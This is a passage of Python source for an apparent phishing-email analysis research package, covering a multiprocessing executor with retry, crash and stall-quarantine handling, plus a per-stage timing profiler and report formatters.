            if not self.pending and not self.retries:
                return
            self._dispatch(worker_id, batch)

    # ------------------------------------------------------------------
    def _handle(self, message: tuple, batch: int) -> None:
        kind, worker_id = message[0], message[1]
        if kind == "ready":
            self._dispatch(worker_id, batch)
        elif kind == "ok":
            index, payload = message[2], message[3]
            self.inflight.get(worker_id, set()).discard(index)
            if index in self.remaining:
                from repro.core.export import record_from_dict

                self.remaining.discard(index)
                self.runner._record_success(index, record_from_dict(payload))
        elif kind == "fail":
            index, error = message[2], message[3]
            self.inflight.get(worker_id, set()).discard(index)
            if index in self.remaining:
                self._count_failure(index, error)
                self._dispatch_idle(batch)
        elif kind == "batch-done":
            self._dispatch(worker_id, batch)
        elif kind == "profile":
            self.runner._merge_stage_snapshot(message[2])
        elif kind == "stopped":
            self.stopped.add(worker_id)
        elif kind == "init-failed":
            self.runner._set_fatal(
                RuntimeError(f"worker {worker_id} failed to initialize: {message[2]}")
            )

    def _count_failure(self, index: int, error: BaseException) -> None:
        runner = self.runner
        policy = runner.retry_policy
        if not policy.is_transient(error):
            runner._set_fatal(error)
            return
        self.attempts[index] = self.attempts.get(index, 0) + 1
        self.attempt_errors.setdefault(index, []).append(repr(error))
        if self.attempts[index] < policy.max_attempts:
            runner._note_retry()
            self.retries.append(index)
        else:
            self.remaining.discard(index)
            history = tuple(self.attempt_errors.pop(index, []))
            if isinstance(error, WorkerStalled):
                # Deterministic hard wedge: a durable quarantined record
                # (not a dead letter) so a resume never re-runs it.
                runner._quarantine_stalled(index, self.attempts[index], history)
            else:
                # Process retries re-dispatch immediately (no backoff
                # sleep), hence backoff=0; the history still travels.
                runner._record_dead(
                    index, self.attempts[index], repr(error), history=history
                )

    def _reap_crashed_workers(self, batch: int) -> None:
        for worker_id, process in list(self.workers.items()):
            if process.is_alive() or worker_id in self.stopped:
                continue
            lost = sorted(self.inflight.pop(worker_id, set()) & self.remaining)
            del self.workers[worker_id]
            self.inqs.pop(worker_id, None)
            self.idle.discard(worker_id)
            crash = WorkerCrash(
                f"worker process died (exit code {process.exitcode}) "
                f"with {len(lost)} job(s) in flight"
            )
            for index in lost:
                self._count_failure(index, crash)
            if self._should_respawn():
                self._spawn_worker()  # replacement picks the retries up
        self._dispatch_idle(batch)

    def _should_respawn(self) -> bool:
        runner = self.runner
        return bool(
            self.remaining and runner._fatal is None and not runner._drain.is_set()
        )

    def _reap_stalled(self, batch: int, stall_timeout: float) -> None:
        """Terminate workers that went silent with work in flight.

        The lost indices are charged a :class:`WorkerStalled` attempt
        each (retried on a fresh worker, quarantined once exhausted);
        replacements are spawned.  If the silence had *no* in-flight
        work behind it, scheduling itself is broken — that is a bug in
        this pool, not hostile input, and it raises.
        """
        stalled = [
            worker_id for worker_id, inflight in self.inflight.items() if inflight
        ]
        if not stalled:
            raise RuntimeError(
                f"process pool stalled: no worker output for "
                f"{stall_timeout:.0f}s with {len(self.remaining)} message(s) "
                f"outstanding and none in flight"
            )
        for worker_id in stalled:
            process = self.workers.pop(worker_id, None)
            lost = sorted(self.inflight.pop(worker_id, set()) & self.remaining)
            self.inqs.pop(worker_id, None)
            self.idle.discard(worker_id)
            if process is not None and process.is_alive():
                process.terminate()
                process.join(timeout=_STOP_GRACE)
            stall = WorkerStalled(
                f"worker produced no output for {stall_timeout:g}s with "
                f"{len(lost)} job(s) in flight; reaped"
            )
            for index in lost:
                self._count_failure(index, stall)
            if self._should_respawn():
                self._spawn_worker()
        self._dispatch_idle(batch)

    # ------------------------------------------------------------------
    def _shutdown(self, graceful: bool) -> None:
        for worker_id, inq in list(self.inqs.items()):
            if graceful:
                try:
                    inq.put(("stop",))
                except Exception:
                    pass
        if graceful:
            deadline = _STOP_GRACE
            while len(self.stopped) < len(self.workers) and deadline > 0:
                try:
                    message = self.outq.get(timeout=_POLL_INTERVAL)
                except stdlib_queue.Empty:
                    if not any(process.is_alive() for process in self.workers.values()):
                        break
                    deadline -= _POLL_INTERVAL
                    continue
                if message[0] in ("profile", "stopped"):
                    self._handle(message, batch=1)
        for process in self.workers.values():
            if process.is_alive():
                process.terminate()
            process.join(timeout=_STOP_GRACE)
        self.outq.cancel_join_thread()
        for inq in self.inqs.values():
            inq.cancel_join_thread()
