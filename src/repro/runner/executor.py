"""Process-based execution backend: scale past the GIL.

The per-message analysis (JS interpretation, QR decoding, DCT hashing,
DOM rendering) is CPU-bound pure Python, so the thread backend cannot
exceed one core on a stock interpreter.  This module runs the same
sharded-worker design across *processes*:

- Nothing live crosses the process boundary.  Workers receive a
  picklable :class:`RunnerConfig` (seed material, scale, crawler profile
  name), regenerate the corpus and build a private
  :class:`~repro.core.pipeline.CrawlerBox` locally, and then pull
  message *indices* in batches — full MIME trees are never pickled.
- Finished records stream back *fully serialized*: each worker renders
  its records to the final checkpoint wire form (compact JSON + CRC32
  suffix, via :meth:`~repro.core.pipeline.CrawlerBox.analyze_to_wire`)
  and ships them in batched result frames (:mod:`repro.runner.pool`),
  each frame carrying a worker-local
  :class:`~repro.runner.stats.RunningStats` shard.  The parent's hot
  loop is append-bytes-and-ack: it never re-serializes a record and
  only parses one on the rare duplicate-delivery path.
- Determinism is inherited from the pipeline: every record depends only
  on ``(seed material, message_index)``, so ``jobs=N`` process runs are
  byte-identical to ``jobs=1`` thread runs.

Worker lifecycle (spawn, sentinel-based death detection, stall ticks,
warm reuse across runs) lives in :mod:`repro.runner.pool`; this module
keeps the scheduling policy: batch dispatch, retry/crash accounting,
dead letters, and stall quarantine.  The *thread* backend remains the
default for ``jobs=1`` and for spawn-unfriendly environments (Windows,
frozen binaries): it needs no picklable config and starts instantly, at
the price of GIL-serialized throughput.
"""

from __future__ import annotations

import os
import pickle
import time
from collections import deque
from dataclasses import dataclass, replace

from repro.runner.pool import (
    RespawnGovernor,
    ResultBatcher,
    acquire_pool,
    prewarm,
    release_pool,
    unpack_frame,
)
from repro.runner.retry import TransientFault

#: Seconds to wait for workers to acknowledge a stop before terminating.
_STOP_GRACE = 5.0

#: Default seconds of total silence (no results, no crashes, work
#: outstanding) before the parent reaps the stalled workers.  Far above
#: any single-message analysis time; overridable per run via
#: ``CorpusRunner(stall_timeout=...)``.
_STALL_TIMEOUT = 60.0


class WorkerCrash(TransientFault):
    """A worker process died with in-flight jobs (treated as transient:
    the crash may be environmental, so the indices get retried on a
    fresh worker before being dead-lettered)."""


class WorkerStalled(TransientFault):
    """A worker produced no output past the stall timeout and was
    reaped.  Transient like a crash — the stall may be environmental —
    but once an index exhausts its attempts on stalls it is
    *quarantined* (a durable record naming the watchdog) rather than
    dead-lettered: a message that deterministically wedges workers must
    never re-enter the pool on the next resume."""


@dataclass(frozen=True)
class RunnerConfig:
    """Picklable recipe for rebuilding the analysis world in a worker.

    Carries seed *material*, never live objects: each worker regenerates
    its own corpus and world from the seed, exactly as the parent did.
    """

    seed: int = 2024
    scale: float = 1.0
    crawler_profile: str = "notabot"
    #: Stage-plan selection (``None`` = every built-in stage); carried
    #: here so thread and process backends build identical plans — a
    #: ``--stages auth,parse`` triage run subsets in every worker.
    stages: tuple[str, ...] | None = None
    #: Collect per-stage timings (see :mod:`repro.runner.profile`).
    profile: bool = False
    #: Test-only fault injection, applied inside the worker:
    #: ``"crash:<index>"`` hard-exits the process when analyzing that
    #: message; ``"transient:<index>:<n>"`` raises TransientFault on the
    #: first ``n`` attempts at that message; ``"wedge:<index>"`` sleeps
    #: far past any stall timeout (a hard wedge the cooperative budget
    #: cannot interrupt), exercising the reap-to-quarantine path.
    fault: str = ""
    #: Fault-injection profile for the simulated internet
    #: (``off | light | heavy | hostile``); each worker installs the
    #: same seeded engine on its rebuilt network, so process runs see
    #: the same deterministic weather as thread runs.
    faults: str = "off"
    fault_seed: int = 0
    #: Per-message work-unit budget override (None = pipeline default,
    #: 0 = unlimited); the CLI's ``--budget``.
    budget: int | None = None
    #: Ingestion-guard cap overrides as ``(key, value)`` pairs — the
    #: picklable form of the CLI's repeatable ``--guard-limit`` — so
    #: thread and process workers enforce identical structural limits
    #: (None/empty = the stock :class:`~repro.mail.guard.GuardLimits`).
    guard_limits: tuple[tuple[str, int], ...] | None = None
    #: Truncate the regenerated corpus to its first N messages (None =
    #: all).  Parent and workers address messages by index, so a run
    #: over a corpus *sample* must truncate identically on both sides.
    corpus_prefix: int | None = None
    #: Append a seeded hostile corpus (``repro.dataset.hostile``) after
    #: the (possibly truncated) generated corpus: ``"<seed>:<copies>"``.
    #: Index-stable on every worker, so hostile-ingest runs stay
    #: byte-identical across backends.
    hostile: str = ""

    # ------------------------------------------------------------------
    def build(self):
        """(messages, box) — runs inside the worker process."""
        from repro.core import CrawlerBox
        from repro.crawlers.base import Crawler
        from repro.crawlers.profiles import crawler_profile
        from repro.dataset import CorpusGenerator
        from repro.runner.profile import StageProfiler

        corpus = CorpusGenerator(seed=self.seed, scale=self.scale).generate()
        messages = corpus.messages
        if self.corpus_prefix is not None:
            messages = messages[: self.corpus_prefix]
        if self.hostile:
            from repro.dataset.hostile import hostile_corpus

            hostile_seed, _, copies = self.hostile.partition(":")
            messages = messages + hostile_corpus(
                seed=int(hostile_seed), copies=int(copies or 1)
            )
        if self.faults != "off":
            from repro.web.faults import FaultEngine, fault_profile

            corpus.world.network.install_faults(
                FaultEngine(fault_profile(self.faults), seed=self.fault_seed)
            )
        profiler = StageProfiler() if self.profile else None
        from repro.core.pipeline import build_pipeline_config

        pipeline_config = build_pipeline_config(self.budget, self.guard_limits)
        box = CrawlerBox.for_world(
            corpus.world, profiler=profiler, stages=self.stages, config=pipeline_config
        )
        if self.crawler_profile != "notabot":
            box.crawler = Crawler(
                corpus.world.network,
                crawler_profile(self.crawler_profile),
                rng=box.crawler.rng,
                retain_results=False,
            )
        return messages, box


# ----------------------------------------------------------------------
# Worker side
# ----------------------------------------------------------------------
def _parse_fault(spec: str):
    if not spec:
        return None
    parts = spec.split(":")
    if parts[0] == "crash":
        return ("crash", int(parts[1]))
    if parts[0] == "transient":
        return ("transient", int(parts[1]), int(parts[2]) if len(parts) > 2 else 1)
    if parts[0] == "wedge":
        return ("wedge", int(parts[1]))
    raise ValueError(f"unknown fault spec {spec!r}")


def _portable_error(error: BaseException) -> BaseException:
    """The exception itself when picklable, else a repr-carrying stand-in."""
    try:
        pickle.loads(pickle.dumps(error))
        return error
    except Exception:
        return RuntimeError(repr(error))


def _worker_main(worker_id: int, config: RunnerConfig, inq, outq) -> None:
    """Worker process entry point: build once, analyze batches forever."""
    try:
        import signal

        # A terminal Ctrl-C reaches the whole process group; the drain
        # protocol wants workers to *finish* their current message, so
        # only the parent acts on SIGINT.  SIGTERM (the reaper) still
        # kills us.
        signal.signal(signal.SIGINT, signal.SIG_IGN)
    except (ValueError, OSError):
        pass
    try:
        messages, box = config.build()
    except BaseException as error:  # noqa: BLE001 - reported to the parent
        outq.put(("init-failed", worker_id, repr(error)))
        return
    outq.put(("ready", worker_id))
    fault = _parse_fault(config.fault)
    fault_seen = 0
    batcher = ResultBatcher(outq, worker_id)
    while True:
        command = inq.get()
        if command[0] == "stop":
            if box.profiler is not None and box.profiler.enabled:
                outq.put(("profile", worker_id, box.profiler.snapshot()))
            outq.put(("stopped", worker_id))
            return
        if command[0] == "sync":
            # Warm-reuse handshake: the echo proves the result queue
            # holds nothing older from this worker, and — because this
            # loop only runs after ``config.build()`` — that the worker
            # is fully initialized.
            outq.put(("synced", worker_id, command[1]))
            continue
        if command[0] == "eml-batch":
            # Service-mode dispatch (``repro serve``): submissions are
            # raw RFC-822 bytes that do not exist in the regenerated
            # corpus, so the bytes themselves travel — the one case
            # where message content crosses the process boundary.  The
            # record stays a pure function of (seed material, index),
            # exactly like corpus messages.
            from repro.mail.ingest import ingest_eml_bytes

            for index, raw in command[1]:
                try:
                    message = ingest_eml_bytes(raw)
                    record, wire = box.analyze_to_wire(message, message_index=index)
                except BaseException as error:  # noqa: BLE001 - routed to parent
                    batcher.flush()  # keep frame/fail ordering causal
                    outq.put(("fail", worker_id, index, _portable_error(error)))
                else:
                    batcher.add(index, wire, record)
            batcher.flush()
            outq.put(("batch-done", worker_id))
            continue
        for index in command[1]:
            try:
                if fault is not None and fault[1] == index:
                    if fault[0] == "wedge":
                        # A hard wedge the cooperative budget cannot see
                        # (native-code loop, deadlocked lock, ...): go
                        # silent until the parent's stall watchdog reaps
                        # this process.  Batch-mates analyzed before the
                        # wedge ship first — their records must land.
                        batcher.flush()
                        time.sleep(3600.0)
                    if fault[0] == "crash":
                        # Simulate a hard worker death — but deliver any
                        # batch-mates already analyzed and flush the
                        # result queue's feeder thread first: exiting
                        # while it holds the queue's shared write lock
                        # would deadlock every other worker's put()
                        # (an inherent multiprocessing.Queue hazard the
                        # fault models death *between* writes to avoid).
                        batcher.flush()
                        outq.close()
                        outq.join_thread()
                        os._exit(13)
                    fault_seen += 1
                    if fault_seen <= fault[2]:
                        raise TransientFault(f"injected fault attempt {fault_seen}")
                record, wire = box.analyze_to_wire(messages[index], message_index=index)
            except BaseException as error:  # noqa: BLE001 - routed to parent
                batcher.flush()  # keep frame/fail ordering causal
                outq.put(("fail", worker_id, index, _portable_error(error)))
            else:
                batcher.add(index, wire, record)
        batcher.flush()
        outq.put(("batch-done", worker_id))


# ----------------------------------------------------------------------
# Parent side
# ----------------------------------------------------------------------
def prewarm_process_pool(config: RunnerConfig, jobs: int, timeout: float = 300.0) -> None:
    """Build and park a warm worker pool for ``config``.

    Benchmarks call this before timed runs so measurements capture
    analysis throughput rather than corpus regeneration; ordinary runs
    get the same effect implicitly from the warm registry.
    """
    prewarm(_worker_main, config, jobs, timeout=timeout)


class ProcessPool:
    """Drives worker processes for one :class:`CorpusRunner` run.

    The runner owns all durable state (checkpoint, manifest, stats,
    dead letters); :class:`~repro.runner.pool.WorkerPool` owns process
    lifecycle and wakeups; this class owns only scheduling policy:
    batch dispatch, retry/crash accounting, and stall quarantine.
    """

    def __init__(self, runner, config: RunnerConfig, jobs: int, batch_size: int | None = None):
        self.runner = runner
        self.config = replace(config, profile=runner.profiler is not None)
        self.jobs = jobs
        self.batch_size = batch_size
        self.pool = None
        self.inflight: dict[int, set[int]] = {}
        self.idle: set[int] = set()
        self.stopped: set[int] = set()
        #: Crash-loop protection: backoff between respawns, clean abort
        #: once the windowed crash budget is exhausted.
        self.governor = RespawnGovernor()

    # ------------------------------------------------------------------
    def run(self, pending: list[int]) -> None:
        runner = self.runner
        batch = self.batch_size or max(1, min(16, len(pending) // (self.jobs * 4) or 1))
        self.pending: deque[int] = deque(pending)
        #: Failed indices awaiting re-delivery; dispatched one per batch
        #: so a poison message cannot drag batch-mates into its crash
        #: accounting a second time.
        self.retries: deque[int] = deque()
        self.remaining: set[int] = set(pending)
        self.attempts: dict[int, int] = {}
        #: Per-index error reprs across attempts, for dead-letter history.
        self.attempt_errors: dict[int, list[str]] = {}

        stall_timeout = getattr(runner, "stall_timeout", None) or _STALL_TIMEOUT
        pool = self.pool = acquire_pool(
            _worker_main,
            self.config,
            min(self.jobs, max(1, len(pending))),
            name_prefix="repro-proc-worker",
        )
        pool.stall_timeout = stall_timeout
        runner._process_pool = self
        self._last_progress = time.monotonic()
        graceful = True
        try:
            # Warm workers already passed their init handshake: feed
            # them immediately instead of waiting for a "ready" that
            # was consumed by a previous run.
            for worker_id in sorted(pool.ready):
                self.inflight.setdefault(worker_id, set())
                self._dispatch(worker_id, batch)
            draining = False
            while self.remaining and runner._fatal is None:
                if runner._drain.is_set():
                    if not draining:
                        # Graceful shutdown: drop the backlog so no new
                        # batch dispatches; already-dispatched batches
                        # finish (their records checkpoint normally).
                        draining = True
                        self.pending.clear()
                        self.retries.clear()
                    if not any(self.inflight.values()):
                        break
                self._handle(pool.get(), batch, stall_timeout)
            graceful = runner._fatal is None
        except BaseException:
            graceful = False
            raise
        finally:
            runner._process_pool = None
            self._finish(graceful)

    # ------------------------------------------------------------------
    def wake(self) -> None:
        """Unblock the event loop (signal-handler safe; drain path)."""
        pool = self.pool
        if pool is not None:
            pool.wake()

    # ------------------------------------------------------------------
    def _dispatch(self, worker_id: int, batch: int) -> None:
        indices = []
        if self.retries:
            indices.append(self.retries.popleft())  # isolated re-delivery
        else:
            while self.pending and len(indices) < batch:
                indices.append(self.pending.popleft())
        if not indices:
            self.idle.add(worker_id)
            return
        self.idle.discard(worker_id)
        self.inflight.setdefault(worker_id, set()).update(indices)
        self.pool.send(worker_id, ("batch", indices))

    def _dispatch_idle(self, batch: int) -> None:
        for worker_id in sorted(self.idle):
            if not self.pending and not self.retries:
                return
            self._dispatch(worker_id, batch)

    # ------------------------------------------------------------------
    def _handle(self, message: tuple, batch: int, stall_timeout: float) -> None:
        kind, worker_id = message[0], message[1]
        if kind == "frame":
            self._last_progress = time.monotonic()
            self.governor.note_progress()
            self._handle_frame(worker_id, message[2], message[3])
        elif kind == "batch-done":
            self._last_progress = time.monotonic()
            self.governor.note_progress()
            self._dispatch(worker_id, batch)
        elif kind == "ready":
            self._last_progress = time.monotonic()
            self.pool.note_ready(worker_id)
            if not self.inflight.get(worker_id):
                self._dispatch(worker_id, batch)
        elif kind == "fail":
            self._last_progress = time.monotonic()
            index, error = message[2], message[3]
            self.inflight.get(worker_id, set()).discard(index)
            if index in self.remaining:
                self._count_failure(index, error)
                self._dispatch_idle(batch)
        elif kind == "worker-died":
            self._reap_worker(worker_id, batch)
        elif kind == "stall-tick":
            if time.monotonic() - self._last_progress >= stall_timeout:
                self._reap_stalled(batch, stall_timeout)
        elif kind == "profile":
            self.runner._merge_stage_snapshot(message[2])
        elif kind == "stopped":
            self.stopped.add(worker_id)
        elif kind == "init-failed":
            self.runner._set_fatal(
                RuntimeError(f"worker {worker_id} failed to initialize: {message[2]}")
            )
        # "wake" / stale "synced": no-op wakeups

    def _handle_frame(self, worker_id: int, blob: bytes, shard) -> None:
        """Land one result frame: append wire bytes, absorb the shard.

        The shard covers exactly the frame's records, so it is absorbed
        wholesale iff every entry was fresh; on the rare duplicate
        delivery (crash-retry race) the fresh records' stats are
        recomputed individually instead.
        """
        runner = self.runner
        inflight = self.inflight.get(worker_id, set())
        entries = unpack_frame(blob)
        delivered: list[bytes] = []
        for index, wire in entries:
            inflight.discard(index)
            if index in self.remaining:
                self.remaining.discard(index)
                if runner._record_wire(index, wire):
                    delivered.append(wire)
        if len(delivered) == len(entries):
            runner._absorb_stats(shard)
        elif delivered:
            from repro.core.export import record_from_wire

            for wire in delivered:
                runner._update_stats(record_from_wire(wire))

    def _count_failure(self, index: int, error: BaseException) -> None:
        runner = self.runner
        policy = runner.retry_policy
        if not policy.is_transient(error):
            runner._set_fatal(error)
            return
        self.attempts[index] = self.attempts.get(index, 0) + 1
        self.attempt_errors.setdefault(index, []).append(repr(error))
        if self.attempts[index] < policy.max_attempts:
            runner._note_retry()
            self.retries.append(index)
        else:
            self.remaining.discard(index)
            history = tuple(self.attempt_errors.pop(index, []))
            if isinstance(error, WorkerStalled):
                # Deterministic hard wedge: a durable quarantined record
                # (not a dead letter) so a resume never re-runs it.
                runner._quarantine_stalled(index, self.attempts[index], history)
            else:
                # Process retries re-dispatch immediately (no backoff
                # sleep), hence backoff=0; the history still travels.
                runner._record_dead(
                    index, self.attempts[index], repr(error), history=history
                )

    def _reap_worker(self, worker_id: int, batch: int) -> None:
        """A process sentinel fired: charge the lost in-flight work."""
        if worker_id in self.stopped or worker_id not in self.pool.workers:
            return  # deliberate stop (resize/shutdown), already handled
        process = self.pool.discard(worker_id)
        lost = sorted(self.inflight.pop(worker_id, set()) & self.remaining)
        self.idle.discard(worker_id)
        exitcode = process.exitcode if process is not None else None
        crash = WorkerCrash(
            f"worker process died (exit code {exitcode}) "
            f"with {len(lost)} job(s) in flight"
        )
        for index in lost:
            self._count_failure(index, crash)
        self.governor.note_crash(exitcode)
        if self._should_respawn():
            delay = self.governor.permit()
            if delay is None:
                # A flapping worker target (dies on arrival, every
                # time): stop feeding the reap/respawn spin and fail
                # the run with the crash history instead.
                self.runner._set_fatal(RuntimeError(self.governor.diagnosis()))
            else:
                if delay:
                    time.sleep(delay)
                self.pool.spawn()  # replacement picks the retries up
        self._dispatch_idle(batch)

    def _should_respawn(self) -> bool:
        runner = self.runner
        return bool(
            self.remaining and runner._fatal is None and not runner._drain.is_set()
        )

    def _reap_stalled(self, batch: int, stall_timeout: float) -> None:
        """Terminate workers that went silent with work in flight.

        The lost indices are charged a :class:`WorkerStalled` attempt
        each (retried on a fresh worker, quarantined once exhausted);
        replacements are spawned.  If the silence had *no* in-flight
        work behind it, scheduling itself is broken — that is a bug in
        this pool, not hostile input, and it raises.
        """
        stalled = [
            worker_id for worker_id, inflight in self.inflight.items() if inflight
        ]
        if not stalled:
            raise RuntimeError(
                f"process pool stalled: no worker output for "
                f"{stall_timeout:.0f}s with {len(self.remaining)} message(s) "
                f"outstanding and none in flight"
            )
        for worker_id in stalled:
            self.pool.discard(worker_id, terminate=True)
            lost = sorted(self.inflight.pop(worker_id, set()) & self.remaining)
            self.idle.discard(worker_id)
            self.stopped.add(worker_id)  # sentinel fires later: ignore it
            stall = WorkerStalled(
                f"worker produced no output for {stall_timeout:g}s with "
                f"{len(lost)} job(s) in flight; reaped"
            )
            for index in lost:
                self._count_failure(index, stall)
            if self._should_respawn():
                self.pool.spawn()
        self._last_progress = time.monotonic()
        self._dispatch_idle(batch)

    # ------------------------------------------------------------------
    def _finish(self, graceful: bool) -> None:
        """Hand the pool back: park it warm after a clean run, tear it
        down hard after a fatal one (worker state is then suspect)."""
        pool, self.pool = self.pool, None
        if pool is None:
            return
        pool.stall_timeout = None
        if graceful:
            release_pool(
                pool,
                on_message=lambda message: self.runner._merge_stage_snapshot(message[2])
                if message[0] == "profile"
                else None,
            )
        else:
            pool.stop(graceful=False)
