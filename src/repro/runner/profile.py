"""Per-stage wall-clock timing for the analysis hot path.

``StageProfiler`` accumulates monotonic-clock durations per pipeline
stage.  Stage names are no longer hand-written strings: the stage-plan
driver (:meth:`repro.core.stages.plan.StagePlan.run`) records one row
per executed registry stage, and ``CrawlerBox.analyze`` adds an
``unattributed`` row for the wall clock the stages themselves did not
account for — so the ``--profile`` table provably covers every stage
and its rows sum to the total analysis time.  The canonical row set is
:data:`PROFILE_TABLE_STAGES` (consistency-checked against the stage
registry by ``tests/test_stage_registry.py``).

The profiler is cheap enough to leave wired into the pipeline: when
profiling is off the pipeline holds the shared :data:`NULL_PROFILER`
whose ``stage()`` context manager is a no-op.

Aggregation follows the :class:`~repro.runner.stats.RunningStats` model:
snapshots from independent workers (threads *or* processes — snapshots
are plain dicts and cross pickle boundaries) merge by summation, and
the runner folds the merged totals into ``RunningStats.stage_calls`` /
``stage_seconds`` so ``repro run --profile`` can print where the time
went from the same object that carries the headline counters.
"""

from __future__ import annotations

import threading
import time
from collections import Counter

#: Residual bucket: analyze() wall clock not attributed to any stage.
UNATTRIBUTED = "unattributed"

#: The rows a fully profiled run produces: every built-in stage of the
#: registry (Figure 1 order; keep in sync with
#: ``repro.core.stages.STAGE_NAMES`` — enforced by
#: ``tests/test_stage_registry.py``) plus the residual bucket.
PROFILE_TABLE_STAGES: tuple[str, ...] = (
    "auth",
    "parse",
    "dynamic-html",
    "crawl",
    "classify",
    "spear",
    "enrich",
    UNATTRIBUTED,
)


class _StageTimer:
    """Context manager timing one stage entry."""

    __slots__ = ("profiler", "name", "started")

    def __init__(self, profiler: "StageProfiler", name: str):
        self.profiler = profiler
        self.name = name
        self.started = 0.0

    def __enter__(self) -> "_StageTimer":
        self.started = time.perf_counter()
        return self

    def __exit__(self, *exc_info) -> None:
        self.profiler.record(self.name, time.perf_counter() - self.started)


class _NullTimer:
    """Shared no-op context manager for the disabled profiler."""

    __slots__ = ()

    def __enter__(self) -> "_NullTimer":
        return self

    def __exit__(self, *exc_info) -> None:
        return None


_NULL_TIMER = _NullTimer()


class NullProfiler:
    """Profiling disabled: every stage() is the same no-op context."""

    __slots__ = ()
    enabled = False

    def stage(self, name: str) -> _NullTimer:
        return _NULL_TIMER

    def record(self, name: str, seconds: float) -> None:
        return None


#: The pipeline's default profiler — costs one attribute lookup and an
#: empty with-block per stage.
NULL_PROFILER = NullProfiler()


class StageProfiler:
    """Thread-safe per-stage call/duration accumulator."""

    enabled = True

    def __init__(self):
        self._lock = threading.Lock()
        self.stage_calls: Counter = Counter()
        self.stage_seconds: Counter = Counter()

    def stage(self, name: str) -> _StageTimer:
        """Time a stage: ``with profiler.stage("crawl"): ...``"""
        return _StageTimer(self, name)

    def record(self, name: str, seconds: float) -> None:
        with self._lock:
            self.stage_calls[name] += 1
            self.stage_seconds[name] += seconds

    # ------------------------------------------------------------------
    def snapshot(self) -> dict:
        """A picklable {stage: {"calls": n, "seconds": s}} snapshot."""
        with self._lock:
            return {
                name: {"calls": self.stage_calls[name], "seconds": self.stage_seconds[name]}
                for name in sorted(self.stage_calls)
            }

    def merge_snapshot(self, snapshot: dict) -> None:
        """Fold another profiler's snapshot (e.g. a worker process's) in."""
        with self._lock:
            for name, entry in snapshot.items():
                self.stage_calls[name] += int(entry["calls"])
                self.stage_seconds[name] += float(entry["seconds"])

    def merge_into_stats(self, stats) -> None:
        """Fold the totals into a RunningStats' stage counters."""
        with self._lock:
            stats.stage_calls.update(self.stage_calls)
            stats.stage_seconds.update(self.stage_seconds)


def format_stage_report(stage_calls, stage_seconds) -> str:
    """A fixed-width per-stage table (stage, calls, total, per-call, share).

    Stages sort by total time; the ``unattributed`` residual bucket
    always prints last so the attributed rows read as a breakdown of
    real pipeline work.
    """
    total = sum(stage_seconds.values())
    lines = [
        f"{'stage':<18s} {'calls':>8s} {'total s':>9s} {'ms/call':>9s} {'share':>7s}"
    ]
    ordered = sorted(
        stage_seconds,
        key=lambda name: (name == UNATTRIBUTED, -stage_seconds[name]),
    )
    for name in ordered:
        seconds = stage_seconds[name]
        calls = stage_calls.get(name, 0)
        per_call = 1000.0 * seconds / calls if calls else 0.0
        share = 100.0 * seconds / total if total else 0.0
        lines.append(
            f"{name:<18s} {calls:>8d} {seconds:>9.3f} {per_call:>9.3f} {share:>6.1f}%"
        )
    lines.append(f"{'(all stages)':<18s} {'':>8s} {total:>9.3f}")
    return "\n".join(lines)


def format_fault_report(stats) -> str:
    """The resilience summary for a fault-injected run.

    One headline line of aggregate counters followed by the per-kind
    fault counts (most frequent first); only printed by the CLI when
    :attr:`~repro.runner.stats.RunningStats.has_fault_activity`.
    """
    lines = [
        "fault injection: "
        f"{stats.fault_requests} requests, "
        f"{stats.fault_retries} retries "
        f"({stats.fault_backoff_seconds:.2f}s simulated backoff), "
        f"{stats.fault_deadline_hits} deadline hits, "
        f"{stats.fault_breaker_trips} breaker trips, "
        f"{stats.fault_unreachable} unreachable URLs, "
        f"{stats.fault_budget_exhausted} budget-exhausted messages, "
        f"{stats.fault_enrich_failures} enrichment failures"
    ]
    for kind, count in sorted(stats.fault_kinds.items(), key=lambda item: (-item[1], item[0])):
        lines.append(f"  {kind:<22s} {count:>8d}")
    return "\n".join(lines)


def format_quarantine_report(records) -> str:
    """Post-run summary of quarantined messages.

    A per-limit violation histogram followed by one line per quarantined
    record (index, reason, first violation), so an operator can tell at
    a glance *which* guard each hostile message tripped.  Printed by the
    CLI only when the run quarantined something; also the artifact body
    of the CI hostile-ingest job.
    """
    quarantined = [record for record in records if record.quarantine is not None]
    if not quarantined:
        return "quarantine: 0 messages"
    limits: Counter = Counter()
    for record in quarantined:
        for violation in record.quarantine.violations:
            limits[violation.limit] += 1
    lines = [f"quarantine: {len(quarantined)} message(s)"]
    for limit, count in sorted(limits.items(), key=lambda item: (-item[1], item[0])):
        lines.append(f"  {limit:<22s} {count:>8d}")
    for record in quarantined:
        head = record.quarantine.violations[0] if record.quarantine.violations else None
        detail = f" [{head.limit}: {head.observed} > cap {head.cap}]" if head else ""
        lines.append(f"  #{record.message_index}: {record.quarantine.reason}{detail}")
    return "\n".join(lines)
