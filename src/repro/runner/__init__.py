"""The analysis engine: CrawlerBox at production scale.

The paper's CrawlerBox is an always-on infrastructure ("analyzes the
reported emails as soon as they are tagged by experts") that sustained
a ten-month, 5,181-message measurement window.  This subpackage wraps
the per-message pipeline in a production-style engine:

- :mod:`~repro.runner.queue` — a bounded in-memory job queue with
  priorities, per-job attempt tracking, and delayed re-delivery.
- :mod:`~repro.runner.workers` — N worker threads, each owning a
  *private* :class:`~repro.core.pipeline.CrawlerBox` so no crawler or
  RNG state is shared across workers.
- :mod:`~repro.runner.retry` — exponential backoff with jitter for
  transient faults, and a dead-letter list for jobs that exhaust their
  attempts.
- :mod:`~repro.runner.checkpoint` — an append-only JSONL record store
  plus a run manifest, so an interrupted run can resume and skip the
  message indices it already analyzed.
- :mod:`~repro.runner.stats` — incremental, mergeable running counters
  so progress reporting never re-scans completed records.
- :mod:`~repro.runner.executor` — the process-based backend: workers
  rebuild their world from a picklable :class:`RunnerConfig` and pull
  message indices, so the CPU-bound analysis scales past the GIL.
- :mod:`~repro.runner.profile` — per-stage wall-clock timing
  (``repro run --profile``), mergeable across threads and processes.
- :mod:`~repro.runner.runner` — the :class:`CorpusRunner` facade.

Determinism guarantee: the pipeline derives each message's RNG stream
from ``(corpus seed material, message_index)`` only, so a ``jobs=8``
run — on either backend — produces byte-identical records to a
``jobs=1`` run regardless of scheduling order.
"""

from repro._budget import BudgetExceeded, MessageBudget
from repro.runner.checkpoint import (
    CheckpointScan,
    CheckpointStore,
    CompactionResult,
    LineIssue,
    RunManifest,
    encode_record_line,
    parse_record_line,
)
from repro.runner.executor import ProcessPool, RunnerConfig, WorkerCrash, WorkerStalled
from repro.runner.profile import (
    NULL_PROFILER,
    PROFILE_TABLE_STAGES,
    StageProfiler,
    format_fault_report,
    format_quarantine_report,
    format_stage_report,
)
from repro.runner.queue import Job, JobQueue, QueueClosed
